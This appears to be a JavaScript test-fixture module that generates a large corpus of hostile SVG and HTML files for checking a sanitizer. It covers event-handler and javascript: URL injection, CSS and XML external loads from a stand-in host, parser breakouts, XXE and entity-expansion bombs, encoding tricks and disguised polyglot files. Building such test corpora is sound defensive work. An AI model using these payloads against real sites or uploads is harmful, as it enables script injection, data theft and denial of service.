// Hostile files by rules: each rule combines what runs or loads something with the places and the spellings in which it could. The rule: every file names its own
// number in what it would log and request, so that a fault names the file.

const SVG = "http://www.w3.org/2000/svg";
const XLINK = "http://www.w3.org/1999/xlink";
const HTML = "http://www.w3.org/1999/xhtml";

export const svg = (content, attributes = "") =>
  `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" width="90" height="90" ${attributes}>${content}</svg>`;
const html = (content) => svg(`<foreignObject width="90" height="90">${content}</foreignObject>`, `xmlns:h="${HTML}"`);
const base64 = (text) => Buffer.from(text).toString("base64");
const rect = '<rect width="90" height="90" fill="green"/>';
/** Each character as a reference. */
const references = (text) => [...text].map((one) => `&#x${one.codePointAt(0).toString(16)};`).join("");
const escaped = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
const words = (text) => text.trim().split(/\s+/);

/** Every name of an event handler of SVG, of HTML, and of Chromium. */
const EVENTS = words(`
  onabort onactivate onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput
  onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay oncanplaythrough onchange onclick onclose
  oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter
  ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange
  ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata onloadedmetadata onloadstart
  onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide
  onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover
  onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch
  onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstorage onsubmit onsuspend
  ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationstart onwheel
  onzoom`);

const handlers = EVENTS.map((event) => [
  `the handler ${event}`,
  ({ run }) =>
    svg(
      `<style>@keyframes k{to{opacity:.5}}.k{animation:k .01s 2}</style><g class="k" tabindex="0" ${event}="${run}"><image href="x:y" width="9" height="9" ${event}="${run}"/>${rect}` +
        `<animate attributeName="opacity" dur=".01s" repeatCount="2" ${event}="${run}"/></g>`,
      `${event}="${run}"`,
    ),
]);
const spelledHandlers = Object.entries({
  "in capitals": (run) => `ONLOAD="${run}" OnLoad="${run}"`,
  "with references": (run) => `onload="${references(run)}"`,
  "in single quotes": (run) => `onload='${run}'`,
  "with a prefix": (run) => `s:onload="${run}" xmlns:s="${SVG}"`,
  "in a line of its own": (run) => `\n\tonload\r\n=\n"${run}"`,
  "after an attribute that seems to end": (run) => `id="&quot; &#39; /&gt;" onload="${run}"`,
}).map(([how, attribute]) => [`a handler ${how}`, ({ run }) => svg(`<svg ${attribute(run)}/>`, attribute(run))]);

/** What runs a script or shows another document, as an address. */
const ADDRESSES = {
  plain: (run) => `javascript:${run}`,
  "in capitals": (run) => `JaVaScRiPt:${run}`,
  "with references": (run) => references(`javascript:${run}`),
  "with a line": (run) => `java&#10;script:${run}`,
  "with a tab": (run) => `&#9;javas&#x9;cript&#13;:${run}`,
  "after spaces": (run) => `  \n javascript:${run}`,
  "after a space of another kind": (run) => `&#xa0;&#x2028;javascript:${run}`,
  "after a comment": (run) => `javascript:/*--&gt;*/${run}`,
  "with percents": (run) => `javascript:%0a${encodeURIComponent(run)}`,
  "of a script": (run) => `data:text/javascript,${encodeURIComponent(run)}`,
  "of HTML": (run) => `data:text/html,${escaped(`<script>${run}</script>`)}`,
  "of HTML in base64": (run) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  "of SVG": (run) => `data:image/svg+xml;base64,${base64(svg(`<script>${run}</script>`))}#a`,
  "of a picture that is none": (run) => `data:image/png;base64,${base64(svg("", `onload="${run}"`))}`,
  "in another scheme": (run) => `vbscript:${run}`,
};
const LINKS = {
  "a link": (address) => `<a href="${address}">${rect}</a>`,
  "a link of XLink": (address) => `<a xlink:href="${address}">${rect}</a>`,
  "a link with its own prefix": (address) => `<a xmlns:l="${XLINK}" l:href="${address}">${rect}</a>`,
  "a link that is set": (address) => `<a id="l">${rect}</a><set href="#l" attributeName="href" to="${address}"/>`,
  "a link that is animated": (address) => `<a>${rect}<animate attributeName="xlink:href" values="${address};${address}" dur="99s"/></a>`,
  "a part that is used": (address) => `<use href="${address}" width="90" height="90"/>`,
  "a picture": (address) => `<image href="${address}" width="90" height="90"/>`,
  "a script": (address) => `<script href="${address}"/>`,
  "a frame": (address) => `<foreignObject width="90" height="90"><iframe xmlns="${HTML}" src="${address}"/></foreignObject>`,
};
const links = Object.entries(LINKS).flatMap(([place, link]) =>
  Object.entries(ADDRESSES).map(([how, address]) => [`${place}, an address ${how}`, ({ run }) => svg(link(address(run)))]),
);

/** Animations of what a cleaner has accepted. */
const ANIMATED = words("href xlink:href onclick onload style class filter fill attributeName HREF from");
const animations = ["set", "animate"].flatMap((element) =>
  ANIMATED.map((name) => [
    `${element} of ${name}`,
    ({ run, away }) => {
      const value = name.startsWith("on") ? run : /href/i.test(name) ? `javascript:${run}` : name === "style" ? `fill:url(${away})` : `url(${away})`;
      const values = element === "set" ? `to="${value}"` : `values="${value};${value}" from="${value}" to="${value}" by="${value}"`;
      return svg(`<a id="t">${rect}</a><${element} href="#t" attributeName="${name}" ${values} dur="99s"/>`);
    },
  ]),
);

/** What loads a file, as a value of CSS. */
const VALUES = {
  plain: (away) => `url(${away})`,
  "in quotes": (away) => `url( '${away}' )`,
  "in capitals": (away) => `URL(${away})`,
  "with an escape": (away) => `u\\72l(${away})`,
  "with a long escape": (away) => `\\000075rl(${away})`,
  "with an escape in its address": (away) => `url(\\68${away.slice(1)})`,
  "after a closed one": (away) => `url(#a) url(${away})`,
  "after a string": (away) => `"a" url(${away})`,
  "without a scheme": (away) => `url(${away.slice("http:".length)})`,
  "in a set": (away) => `image-set('${away}' 1x)`,
  "in a prefixed set": (away) => `-webkit-image-set(url(${away}) 1x)`,
  "in a fade": (away) => `-webkit-cross-fade(url(${away}), url(${away}), 50%)`,
  "of a variable": (away) => `var(--none, url(${away}))`,
};
const PLACES = {
  "an attribute": (value) => `<rect width="9" height="9" filter="${escaped(value)}" fill="${escaped(value)}" mask="${escaped(value)}"/>`,
  "a style": (value) => `<g style="background:${escaped(value)};mask-image:${escaped(value)};filter:${escaped(value)}">${rect}</g>`,
  "a style sheet": (value) => `<style>svg,rect{background:${escaped(value)};fill:${escaped(value)};filter:${escaped(value)};cursor:${escaped(value)},auto}</style>${rect}`,
  "a section of a style sheet": (value) => `<style><![CDATA[@media all{*{background-image:${value};list-style:${value}}}]]></style>${rect}`,
};
const values = Object.entries(PLACES).flatMap(([place, css]) =>
  Object.entries(VALUES).map(([how, value]) => [`a value in ${place}, ${how}`, ({ away }) => svg(css(value(away)))]),
);
const sheets = Object.entries({
  "an import": (away) => `@import "${away}";`,
  "an import by url": (away) => `@import url(${away}) screen;`,
  "an import in capitals": (away) => `@IMPORT '${away}';`,
  "an import with an escape": (away) => `@\\69mport "${away}";`,
  "an import after a comment": (away) => `/* a *//**/@import "${away}";`,
  "an import after what HTML hides": (away) => `<!-- @import "${away}"; -->`,
  "a font": (away) => `@font-face{font-family:f;src:url(${away})}text{font-family:f}`,
  "a font in a group": (away) => `@media all{@font-face{font-family:f;src:url(${away})}}text{font-family:f}`,
  "a font of another kind": (away) => `@font-face{font-family:f;src:local(none),url("${away}") format("woff2")}text{font-family:f}`,
  "a namespace": (away) => `@namespace url(${away});@namespace a url(${SVG});a|svg{background:url(${away})}`,
  "a layer": (away) => `@layer a{svg{background:url(${away})}}`,
  "a scope": (away) => `@scope{rect{filter:url(${away})}}`,
  "a nested rule": (away) => `svg{& rect{filter:url(${away})}}`,
  "a container": (away) => `@supports (fill:red){svg{background:url(${away})}}`,
  "a string that ends at a line": (away) => `svg{font-family:"a\n}svg{background:url(${away})}b{fill:"}`,
  "a bracket that does not end": (away) => `svg{fill:url(#a\n}svg{background:url(${away})}`,
  "a list": (away) => `g{display:list-item;list-style-image:url(${away})}svg::before{content:url(${away})}`,
  "a step of an animation": (away) => `@keyframes k{from,to{background:url(${away});mask:url(${away})}}svg{animation:k 9s}`,
  "a variable": (away) => `:root{--a:url(${away});background:var(--a)}`,
  "a typed variable": (away) => `@property --a{syntax:"<image>";inherits:true;initial-value:url(${away})}svg{background:var(--a)}`,
}).map(([what, sheet]) => [
  `a style sheet with ${what}`,
  ({ away }) => svg(`<style>${escaped(sheet(away))}</style>${rect}<g><text y="20">a</text></g>`),
]);

/** Elements of HTML that run or load something. */
const FOREIGN = {
  img: ({ run }) => `src="x:y" onerror="${run}"`,
  iframe: ({ run }) => `srcdoc="${escaped(`<script>${run}</script>`)}"`,
  embed: ({ run }) => `src="data:text/html;base64,${base64(`<script>${run}</script>`)}"`,
  object: ({ run }) => `data="data:text/html;base64,${base64(`<script>${run}</script>`)}"`,
  video: ({ run, away }) => `src="x:y" onerror="${run}" poster="${away}"`,
  audio: ({ run }) => `src="x:y" onerror="${run}"`,
  input: ({ run }) => `autofocus="" onfocus="${run}"`,
  textarea: ({ run }) => `autofocus="" onfocus="${run}"`,
  details: ({ run }) => `open="" ontoggle="${run}"`,
  body: ({ run }) => `onload="${run}" onpageshow="${run}"`,
  link: ({ away }) => `rel="stylesheet" href="${away}"`,
  meta: ({ away }) => `http-equiv="refresh" content="0;url=${away}"`,
  base: ({ away }) => `href="${away}"`,
  form: ({ run }) => `action="javascript:${run}"`,
  button: ({ run }) => `onclick="${run}" formaction="javascript:${run}"`,
  a: ({ run }) => `href="javascript:${run}" style="display:block;width:90px;height:90px"`,
  script: ({ run }) => `src="data:text/javascript,${encodeURIComponent(run)}"`,
};
const foreign = Object.entries(FOREIGN).flatMap(([element, attributes]) => [
  [`${element} of HTML`, (own) => html(`<h:${element} ${attributes(own)}/>`)],
  [`${element} of HTML without foreign content`, (own) => svg(`<${element} xmlns="${HTML}" ${attributes(own)}/>`)],
  [`${element} in the namespace of SVG`, (own) => svg(`<foreignObject width="90" height="90"><${element} ${attributes(own)}/></foreignObject>`)],
]);

/** Where a parser of HTML could read an end that one of XML does not. */
const CONTAINERS = words("title desc style text metadata tspan a g script textPath");
const OUT = { "as text": (text) => escaped(text), "as a section": (text) => `<![CDATA[${text}]]>`, "as a comment": (text) => `<!--><!---->${escaped(text)}<!-- ${text} -->` };
const breakouts = CONTAINERS.flatMap((name) =>
  Object.entries(OUT).map(([how, write]) => [
    `the end of ${name} ${how}`,
    ({ run }) => svg(`<${name}>${write(`</${name}></svg><img src="x:y" onerror="${run}"><svg onload="${run}">`)}</${name}>`),
  ]),
);

const structures = Object.entries({
  "an entity": ({ run }) => `<!DOCTYPE svg [<!ENTITY a "<script xmlns='${SVG}'>${run}</script>">]>${svg("&a;")}`,
  "an entity in an attribute": ({ run }) => `<!DOCTYPE svg [<!ENTITY a "javascript:${run}">]>${svg(`<a href="&a;">${rect}</a>`)}`,
  "an entity that is a namespace": ({ run }) => `<!DOCTYPE svg [<!ENTITY a "${HTML}">]>${svg(`<script xmlns="&a;">${run}</script>`)}`,
  "an entity of another file": ({ away }) => `<!DOCTYPE svg [<!ENTITY a SYSTEM "${away}">]>${svg("<text>&a;</text>")}`,
  "a parameter entity": ({ away }) => `<!DOCTYPE svg [<!ENTITY % a SYSTEM "${away}"> %a;]>${svg(rect)}`,
  "a document type of another file": ({ away }) => `<!DOCTYPE svg SYSTEM "${away}">${svg(rect)}`,
  "a default of an attribute": ({ run }) => `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${svg(rect)}`,
  "a default of a link": ({ run }) => `<!DOCTYPE svg [<!ATTLIST a xlink:href CDATA "javascript:${run}">]>${svg(`<a>${rect}</a>`)}`,
  "a style sheet of an instruction": ({ away }) => `<?xml-stylesheet href="${away}"?>${svg(rect)}`,
  "an instruction with a transformation": ({ away }) => `<?xml-stylesheet type="text/xsl" href="${away}"?>${svg(rect)}`,
  "a transformation within": ({ run }) =>
    `<?xml-stylesheet type="text/xsl" href="#x"?><!DOCTYPE svg [<!ATTLIST x:stylesheet id ID #REQUIRED>]>` +
    svg(
      `<x:stylesheet id="x" version="1.0"><x:template match="/"><script xmlns="${HTML}">${run}</script></x:template></x:stylesheet>`,
      'xmlns:x="http://www.w3.org/1999/XSL/Transform"',
    ),
  "a script with a prefix": ({ run }) => svg(`<s:script>${run}</s:script>`, `xmlns:s="${SVG}"`),
  "a script of a default namespace": ({ run }) => svg(`<g xmlns="${HTML}"><script>${run}</script></g>`),
  "a root with a prefix": ({ run }) => `<s:svg xmlns:s="${SVG}" width="90" height="90" onload="${run}"><s:script>${run}</s:script></s:svg>`,
  "a prefix that changes": ({ run }) => svg(`<p:g xmlns:p="urn:x"><p:script xmlns:p="${SVG}">${run}</p:script></p:g>`),
  "a handler of XML Events": ({ run }) => svg(`<handler type="text/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">${run}</handler>`),
  "a base": ({ run, away }) => svg(`<g xml:base="${away}"><use href="#a"/><a href="x">${rect}</a></g>`, `xml:base="javascript:${run}//"`),
  "a script of HTML": ({ run }) => svg(`<h:script>${run}</h:script>`, `xmlns:h="${HTML}"`),
  "a script in a title": ({ run }) => svg(`<title><script>${run}</script></title>`),
  "a script in metadata": ({ run }) => svg(`<metadata><script>${run}</script></metadata>`),
  "a script in a section": ({ run }) => svg(`<script><![CDATA[${run}]]></script>`),
  "a script of a module": ({ run }) => svg(`<script type="module">${run}</script>`),
  "a script in a switch": ({ run }) => svg(`<switch><script>${run}</script></switch>`),
  "a script in definitions that are used": ({ run }) => svg(`<defs><g id="a"><script>${run}</script></g></defs><use href="#a"/>`),
  "a script that another element seems to end": ({ run }) => svg(`<g id="&lt;script&gt;"><script>//&lt;/script&gt;\n${run}</script></g>`),
  "a picture elsewhere": ({ away }) => svg(`<image href="${away}" width="9" height="9"/>`),
  "a script elsewhere": ({ away }) => svg(`<script href="${away}"/>`),
  "a part elsewhere": ({ away }) => svg(`<use href="${away}#a"/>`),
  "elements that end a drawing in HTML": ({ run }) => svg(`<g><p xmlns=""/><font color="x"/><br/><title><svg onload="${run}"/></title></g>`),
  "an attribute that seems to end": ({ run }) => svg(`<g id="&quot;>&lt;img src=x:y onerror=${run}>"/>`),
  "a comment that ends early in HTML": ({ run }) => svg(`<!--><img src="x:y" onerror="${run}">-->${rect}`),
  "a comment in a text": ({ run }) => svg(`<text y="20">&lt;!--</text><text><![CDATA[--><img src="x:y" onerror="${run}">]]></text>`),
  "UTF-7 in a text": ({ run }) => svg(`<text y="20">+ADw-script+AD4-${run}+ADw-/script+AD4-</text>`),
  "all that stays, and a script": ({ run }) =>
    svg(
      `<style>.a{fill:url(#g)}@media (min-width:1px){.b{stroke:red}}</style><defs><linearGradient id="g"><stop offset="1" stop-color="red"/></linearGradient></defs>` +
        `<circle class="a b" r="5" cx="80" cy="80"/><use href="#g"/><text y="20">a &amp; b</text>` +
        `<image width="9" height="9" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR42mO4IyICAALUAQVnjQBuAAAAAElFTkSuQmCC"/>` +
        `<rect width="9" height="9"><animate attributeName="x" values="0;9" dur="1s"/></rect><script>${run}</script>`,
    ),
  "a picture of a filter": ({ away }) => svg(`<filter id="f"><feImage href="${away}"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
  "a document after its end": ({ run }) => `${svg(rect)}<script>${run}</script>`,
  "a document before its beginning": ({ run }) => `<script>${run}</script>${svg(rect)}`,
}).map(([what, file]) => [`a file with ${what}`, file]);

/** What a browser or a server could try to finish for hours. */
const bombs = Object.entries({
  "entities that grow": () => `<!DOCTYPE svg [<!ENTITY a "aaaa">${words("b c d e f g h i j k l").map((one, at) => `<!ENTITY ${one} "${`&${"abcdefghijk"[at]};`.repeat(9)}">`).join("")}]>${svg("<text>&l;</text>")}`,
  "parts that are used ten to the tenth": ({ run }) =>
    svg(words("b c d e f g h i j k").map((one, at) => `<g id="${one}">${`<use href="#${"abcdefghij"[at]}"/>`.repeat(10)}</g>`).join("") + `<g id="a" onclick="${run}">${rect}</g>`),
  "a nesting of thousands": ({ run }) => svg("<g>".repeat(5000) + `<script>${run}</script>` + "</g>".repeat(5000)),
}).map(([what, file]) => [`a bomb of ${what}`, file]);

/** The same file in other encodings. */
const utf16 = (text, mark, swapped) => {
  const bytes = Buffer.from((mark ? "\ufeff" : "") + text, "utf16le");
  return swapped ? bytes.swap16() : bytes;
};
const ENCODED = {
  "UTF-16": (text) => utf16(text, true, false),
  "UTF-16 of the other order": (text) => utf16(text, true, true),
  "UTF-16 without a mark": (text) => utf16(text, false, false),
  "UTF-16 of the other order without a mark": (text) => utf16(text, false, true),
  "UTF-16, as it says": (text) => utf16(`<?xml version="1.0" encoding="UTF-16"?>${text}`, true, false),
  "UTF-8 with a mark": (text) => `\ufeff${text}`,
  "UTF-8 that says UTF-16": (text) => `<?xml version="1.0" encoding="UTF-16"?>${text}`,
  "UTF-8 that says Latin-1": (text) => `<?xml version="1.0" encoding="iso-8859-1"?>${text}`,
  "UTF-8 that says Shift_JIS": (text) => `<?xml version="1.0" encoding="Shift_JIS"?>${text}`,
  "UTF-7": (text) => `<?xml version="1.0" encoding="UTF-7"?>${text.replaceAll("<script>", "+ADw-script+AD4-").replaceAll("</script>", "+ADw-/script+AD4-")}`,
  "UTF-8 after a space": (text) => `\n \t${text}`,
  "UTF-8 after a comment": (text) => `<!-- a --><?a?>${text}`,
  "Latin-1 with a letter": (text) => Buffer.from(`<?xml version="1.0" encoding="iso-8859-1"?><!-- \xe9 -->${text}`, "latin1"),
  "bytes that are no UTF-8": (text) => Buffer.concat([Buffer.from(text.replace("</svg>", "<text>")), Buffer.from([0xc0, 0xbc]), Buffer.from("script></text></svg>")]),
};
const encodings = Object.entries(ENCODED).map(([how, encode]) => [`a script in ${how}`, ({ run }) => encode(svg(`<script>${run}</script>${rect}`))]);

/** The first bytes of the formats, each with a name that says so. */
const FORMATS = {
  "a.png": Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
  "a.jpg": Buffer.from("\xff\xd8\xff", "latin1"),
  "a.gif": "GIF89a",
  "a.webp": "RIFF\0\0\0\0WEBP",
  "a.svg": "",
  "a.pdf": "%PDF-1.7\n",
  "a.mp3": "ID3",
  "a.wav": "RIFF\0\0\0\0WAVE",
  "a.ogg": "OggS",
  "a.mp4": "\0\0\0\x18ftypisom",
  "a.woff2": "wOF2",
  "a.ttf": "\0\x01\0\0",
  "a.zip": "PK\x03\x04",
  "a.txt": "",
  "a.ics": "BEGIN:VCALENDAR\r\n",
  "a.vtt": "WEBVTT\n",
};
const DISGUISED = {
  HTML: ({ run }) => `<!DOCTYPE html><script>${run}</script>`,
  XHTML: ({ run }) => `<html xmlns="${HTML}"><script>${run}</script></html>`,
  SVG: ({ run }) => svg(`<script>${run}</script>`, `onload="${run}"`),
  "JavaScript": ({ run }) => `=1;${run}`,
  MHTML: ({ run }) => `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>\r\n--b--\r\n`,
};
const disguised = Object.entries(FORMATS).flatMap(([name, beginning]) =>
  Object.entries(DISGUISED).map(([what, file]) => [
    `${what} as ${name}`,
    (own) => Buffer.concat([Buffer.from(beginning, "latin1"), Buffer.from(file(own))]),
    name,
  ]),
);

/** All files, each with what it would do, and with the name under which it is sent. */
export const FILES = [
  ...handlers, ...spelledHandlers, ...links, ...animations, ...values, ...sheets, ...foreign, ...breakouts, ...structures, ...bombs, ...encodings, ...disguised,
].map(([what, file, name = "a.svg"], number) => ({
  what,
  name,
  ran: `ran ${number}`,
  away: `http://elsewhere.test/${number}/`,
  body: Buffer.from(file({ run: `console.log(\`ran ${number}\`)`, away: `http://elsewhere.test/${number}/` })),
}));
